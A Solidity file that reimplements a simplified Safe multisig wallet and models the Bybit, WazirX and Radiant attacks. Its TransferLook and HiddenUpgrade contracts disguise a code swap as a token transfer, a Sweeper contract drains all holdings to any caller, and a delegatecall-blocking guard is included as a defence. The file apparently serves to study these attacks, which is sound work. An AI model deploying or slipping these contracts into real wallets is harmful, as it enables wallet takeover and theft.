// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Ownable} from "./Accounts.sol";

interface Guard {
    function checkTransaction(
        address to,
        uint256 value,
        bytes memory data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address payable refundReceiver,
        bytes memory signatures,
        address sender
    ) external;
    function checkAfterExecution(bytes32 hash, bool isDone) external;
}

/// What a multisig runs: state, hashes, signatures, refund, guard and modules lie and count as those of Safe 1.4 do.
contract SafeCode {
    address internal singleton;
    mapping(address => address) internal modules;
    mapping(address => address) internal owners;
    uint256 internal ownerCount;
    uint256 internal threshold;
    uint256 public nonce;
    bytes32 private unused;
    mapping(bytes32 => uint256) public signedMessages;
    mapping(address => mapping(bytes32 => uint256)) public approvedHashes;

    address private constant FIRST = address(1);
    bytes32 private constant GUARD = 0x4a204f620c8c5ccdca3fd54d003badd85ba500436a431f0cbda4f558c93c34c8;
    bytes32 private constant SAFE_TX = 0xbb8310d486368db6bd6f849402fdd73ad53d316b5a4b2644ad6efe0f941286d8;
    bytes32 private constant DOMAIN = 0x47e79534a245952e8b16893a336b85a3d9ea9fa8c573f3d803afb92a79469218;

    event ExecutionSuccess(bytes32 indexed hash, uint256 payment);
    event ExecutionFailure(bytes32 indexed hash, uint256 payment);
    event ApproveHash(bytes32 indexed hash, address indexed owner);
    event AddedOwner(address indexed owner);
    event RemovedOwner(address indexed owner);
    event ChangedThreshold(uint256 threshold);
    event EnabledModule(address indexed module);
    event ChangedGuard(address indexed guard);
    event ExecutionFromModuleSuccess(address indexed module);

    receive() external payable {}

    modifier authorized() {
        require(msg.sender == address(this), "GS031");
        _;
    }

    function setup(address[] calldata own, uint256 count) external {
        require(threshold == 0 && count > 0 && count <= own.length, "GS200");
        address last = FIRST;
        for (uint256 i = 0; i < own.length; i++) {
            owners[last] = own[i];
            last = own[i];
        }
        owners[last] = FIRST;
        modules[FIRST] = FIRST;
        ownerCount = own.length;
        threshold = count;
    }

    function getThreshold() external view returns (uint256) {
        return threshold;
    }

    function getOwners() external view returns (address[] memory list) {
        list = new address[](ownerCount);
        address owner = owners[FIRST];
        for (uint256 i = 0; i < ownerCount; i++) {
            list[i] = owner;
            owner = owners[owner];
        }
    }

    function isOwner(address owner) public view returns (bool) {
        return owner != FIRST && owners[owner] != address(0);
    }

    function approveHash(bytes32 hash) external {
        require(isOwner(msg.sender), "GS030");
        approvedHashes[msg.sender][hash] = 1;
        emit ApproveHash(hash, msg.sender);
    }

    function getTransactionHash(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address refundReceiver,
        uint256 number
    ) public view returns (bytes32) {
        bytes32 hash = keccak256(
            abi.encode(
                SAFE_TX,
                to,
                value,
                keccak256(data),
                operation,
                safeTxGas,
                baseGas,
                gasPrice,
                gasToken,
                refundReceiver,
                number
            )
        );
        return keccak256(abi.encodePacked(hex"1901", keccak256(abi.encode(DOMAIN, block.chainid, this)), hash));
    }

    function checkSignatures(bytes32 hash, bytes memory signatures) public view {
        require(threshold > 0, "GS001");
        require(signatures.length >= threshold * 65, "GS020");
        address last = address(0);
        for (uint256 i = 0; i < threshold; i++) {
            uint8 v;
            bytes32 r;
            bytes32 s;
            assembly {
                let at := add(signatures, mul(65, i))
                r := mload(add(at, 32))
                s := mload(add(at, 64))
                v := byte(0, mload(add(at, 96)))
            }
            address owner;
            if (v == 1) {
                owner = address(uint160(uint256(r)));
                require(msg.sender == owner || approvedHashes[owner][hash] != 0, "GS025");
            } else {
                owner = ecrecover(hash, v, r, s);
            }
            require(owner > last && isOwner(owner), "GS026");
            last = owner;
        }
    }

    function execTransaction(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256 safeTxGas,
        uint256 baseGas,
        uint256 gasPrice,
        address gasToken,
        address payable refundReceiver,
        bytes memory signatures
    ) external payable returns (bool isDone) {
        bytes32 hash = getTransactionHash(
            to, value, data, operation, safeTxGas, baseGas, gasPrice, gasToken, refundReceiver, nonce++
        );
        checkSignatures(hash, signatures);
        address guard = getGuard();
        if (guard != address(0)) {
            Guard(guard).checkTransaction(
                to, value, data, operation, safeTxGas, baseGas, gasPrice, gasToken, refundReceiver, signatures,
                msg.sender
            );
        }
        require(gasleft() >= (safeTxGas * 64) / 63 + 500, "GS010");
        uint256 used = gasleft();
        isDone = execute(to, value, data, operation, gasPrice == 0 ? gasleft() : safeTxGas);
        used -= gasleft();
        require(isDone || safeTxGas != 0 || gasPrice != 0, "GS013");
        uint256 payment = gasPrice == 0 ? 0 : refund(used + baseGas, gasPrice, gasToken, refundReceiver);
        if (isDone) emit ExecutionSuccess(hash, payment);
        else emit ExecutionFailure(hash, payment);
        if (guard != address(0)) Guard(guard).checkAfterExecution(hash, isDone);
    }

    function execute(
        address to,
        uint256 value,
        bytes memory data,
        uint8 operation,
        uint256 gas_
    ) private returns (bool isDone) {
        require(operation < 2, "operation");
        if (operation == 1) (isDone, ) = to.delegatecall{gas: gas_}(data);
        else (isDone, ) = to.call{value: value, gas: gas_}(data);
    }

    function refund(uint256 gas_, uint256 price, address token, address payable to) private returns (uint256 payment) {
        address payable receiver = to == address(0) ? payable(tx.origin) : to;
        if (token == address(0)) {
            payment = gas_ * (price < tx.gasprice ? price : tx.gasprice);
            (bool isSent, ) = receiver.call{value: payment}("");
            require(isSent, "GS011");
        } else {
            payment = gas_ * price;
            (bool isSent, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", receiver, payment));
            require(isSent, "GS012");
        }
    }

    function execTransactionFromModule(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation
    ) external returns (bool isDone) {
        require(msg.sender != FIRST && modules[msg.sender] != address(0), "GS104");
        isDone = execute(to, value, data, operation, gasleft());
        emit ExecutionFromModuleSuccess(msg.sender);
    }

    function addOwnerWithThreshold(address owner, uint256 count) external authorized {
        require(owner != address(0) && owners[owner] == address(0), "GS204");
        owners[owner] = owners[FIRST];
        owners[FIRST] = owner;
        ownerCount++;
        emit AddedOwner(owner);
        if (threshold != count) changeThreshold(count);
    }

    function swapOwner(address before, address old, address owner) external authorized {
        require(owner != address(0) && owners[owner] == address(0) && owners[before] == old, "GS205");
        owners[owner] = owners[old];
        owners[before] = owner;
        owners[old] = address(0);
        emit RemovedOwner(old);
        emit AddedOwner(owner);
    }

    function changeThreshold(uint256 count) public authorized {
        require(count > 0 && count <= ownerCount, "GS201");
        threshold = count;
        emit ChangedThreshold(count);
    }

    function enableModule(address module) external authorized {
        require(module != address(0) && modules[module] == address(0), "GS102");
        modules[module] = modules[FIRST];
        modules[FIRST] = module;
        emit EnabledModule(module);
    }

    function setGuard(address guard) external authorized {
        assembly {
            sstore(GUARD, guard)
        }
        emit ChangedGuard(guard);
    }

    function getGuard() private view returns (address guard) {
        assembly {
            guard := sload(GUARD)
        }
    }
}

/// Stands where a Safe stands, and runs what its first slot names.
contract SafeProxy {
    address internal singleton;

    constructor(address code, address[] memory owners, uint256 threshold) payable {
        singleton = code;
        (bool isDone, ) = code.delegatecall(abi.encodeWithSignature("setup(address[],uint256)", owners, threshold));
        require(isDone, "setup");
    }

    receive() external payable {}

    fallback() external payable {
        (bool isDone, bytes memory output) = singleton.delegatecall(msg.data);
        assembly {
            switch isDone
            case 0 {
                revert(add(output, 32), mload(output))
            }
            default {
                return(add(output, 32), mload(output))
            }
        }
    }
}

/// Calls packed one behind the other, made as the account that runs this, as Safe's MultiSend does.
contract MultiSend {
    function multiSend(bytes memory transactions) external payable {
        assembly {
            let length := mload(transactions)
            let at := 32
            for {} lt(at, add(length, 32)) {} {
                let operation := shr(0xf8, mload(add(transactions, at)))
                let to := shr(0x60, mload(add(transactions, add(at, 1))))
                let value := mload(add(transactions, add(at, 21)))
                let size := mload(add(transactions, add(at, 53)))
                let data := add(transactions, add(at, 85))
                let isDone := 0
                switch operation
                case 0 {
                    isDone := call(gas(), to, value, data, size, 0, 0)
                }
                case 1 {
                    isDone := delegatecall(gas(), to, data, size, 0, 0)
                }
                if iszero(isDone) {
                    revert(0, 0)
                }
                at := add(at, add(85, size))
            }
        }
    }
}

/// As at Bybit: looks like a transfer of tokens, and run by `delegatecall` it puts other code in the place of a Safe's.
contract TransferLook {
    address private first;

    function transfer(address to, uint256) external returns (bool) {
        first = to;
        return true;
    }
}

/// What then stands there: whoever knows it takes all.
contract Sweeper {
    function sweepERC20(address token, address to) external {
        (, bytes memory held) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", address(this)));
        (bool isDone, ) = token.call(
            abi.encodeWithSignature("transfer(address,uint256)", to, abi.decode(held, (uint256)))
        );
        require(isDone, "sweep");
    }

    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }
}

/// As at WazirX: what is signed as a payment of tokens gives the code of the account away where nobody looks.
contract HiddenUpgrade {
    address private first;

    constructor() payable {}

    /// Called as a token, it pays what was shown; run in the place of the account, the code is another afterwards.
    function transfer(address to, uint256 amount, address token, address code) external returns (bool) {
        first = code;
        (bool isDone, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, amount));
        return isDone;
    }
}

/// As at Radiant: who owns it names the pool of a market, and the pool may take what its users allowed it.
contract PoolAddressesProvider is Ownable {
    address public pool;

    event PoolUpdated(address indexed before, address indexed now_);

    constructor(address owner_, address pool_) Ownable(owner_) {
        pool = pool_;
    }

    function setPoolImpl(address pool_) external {
        require(msg.sender == owner, "not the owner");
        emit PoolUpdated(pool, pool_);
        pool = pool_;
    }
}

/// Lets nothing pass that is run in the place of the Safe.
contract NoDelegatecalls is Guard {
    function checkTransaction(
        address,
        uint256,
        bytes memory,
        uint8 operation,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes memory,
        address
    ) external pure {
        require(operation == 0, "no delegatecalls");
    }

    function checkAfterExecution(bytes32, bool) external {}
}

/// A module that does what one account says, and a payment of it in between: effects may come by modules as well.
contract Allowance {
    address private immutable SPENDER;

    constructor(address spender) {
        SPENDER = spender;
    }

    function pay(SafeCode safe, address to, uint256 value) external {
        require(msg.sender == address(safe) || msg.sender == SPENDER, "not allowed");
        require(safe.execTransactionFromModule(to, value, "", 0), "not paid");
    }
}
